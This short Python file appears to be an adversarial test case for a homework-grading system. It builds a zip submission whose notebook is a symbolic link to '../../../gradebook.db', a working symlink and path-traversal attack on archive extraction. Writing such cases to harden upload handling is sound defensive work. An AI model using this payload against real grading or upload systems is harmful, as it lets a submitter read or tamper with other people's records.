"""Hand in an archive whose notebook is a symbolic link to the gradebook."""

import io
import stat
import zipfile

from nbformat import NotebookNode

NAME = "mallory-hw1.zip"


def tamper(notebook: NotebookNode) -> bytes:
    packed, link = io.BytesIO(), zipfile.ZipInfo("hw1.ipynb")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(link, "../../../gradebook.db")
    return packed.getvalue()
